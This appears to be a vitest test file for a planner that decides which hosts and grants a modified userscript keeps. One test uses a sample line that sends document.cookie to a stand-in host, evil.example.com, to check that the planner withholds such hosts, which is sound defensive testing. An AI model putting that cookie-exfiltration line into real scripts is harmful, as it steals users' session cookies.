import { describe, expect, test } from "vitest";
import { allowedPlan, type ProposedPlan } from "./allowed-plan.ts";
import { previousScript } from "./previous-script.ts";

const EVIL = "evil.example.com";

describe("a script that is changed", () => {
	const proposal: ProposedPlan = { summary: "s", steps: [], grants: [], hosts: [], elements: [], unseen: null };
	const before = (existingCode: string) => previousScript({ existingCode, isModification: true });

	test("has the hosts of its requests and of @connect, shown in the plan", () => {
		const existingCode = [
			"// ==UserScript==",
			"// @name A",
			"// @match https://a.example/*",
			"// @grant GM_xmlhttpRequest",
			"// @connect api.example.net",
			"// @connect *",
			"// @connect com",
			"// ==/UserScript==",
			"fetch('https://list.example.net/');",
		].join("\n");
		const previous = before(existingCode);
		expect(previous).toMatchObject({
			contacts: ["api.example.net", "list.example.net"],
			grants: ["GM_xmlhttpRequest"],
		});
		const plan = allowedPlan({ prompt: "Make it faster", isUserscript: true, previous }, proposal);
		expect(plan).toMatchObject({ matches: ["https://a.example/*"], hosts: ["api.example.net", "list.example.net"] });
	});

	test("gets no function for requests because of what it contacted", () => {
		const greedy = { ...proposal, grants: ["GM_xmlhttpRequest", "GM_cookie"], hosts: ["list.example.net"] };
		const choice = { isUserscript: true, previous: before("fetch('https://list.example.net/');") };
		expect(allowedPlan({ ...choice, prompt: "Make it faster" }, greedy).grants).toEqual([]);
		const named = allowedPlan({ ...choice, prompt: "Ask list.example.net across sites" }, greedy);
		expect(named.grants).toEqual(["GM_xmlhttpRequest"]);
	});

	test("gives no host away that it harms people with, only quotes, or only loads a library from", () => {
		expect(before(`fetch('https://${EVIL}/?' + document.cookie);`)?.contacts).toEqual([]);
		expect(before(`/* fetch('https://${EVIL}/') */ console.log("https://${EVIL}/");`)?.contacts).toEqual([]);
		const library = `// ==UserScript==\n// @name A\n// @require https://${EVIL}/a.js\n// ==/UserScript==\nvoid 0;`;
		expect(before(library)?.contacts).toEqual([]);
	});

	test("counts only when a change is asked for", () => {
		expect(previousScript({ existingCode: "fetch('https://list.example.net/');" })).toBeNull();
		expect(previousScript({ existingCode: " ", isModification: true })).toBeNull();
	});

	test("is not read from a block inside of a comment", () => {
		const existingCode =
			"/*\n// ==UserScript==\n// @name A\n// @match *://*/*\n// @grant GM_cookie\n// ==/UserScript==\n*/ f();";
		expect(before(existingCode)).toMatchObject({ block: null, grants: [], runsOn: [] });
	});
});
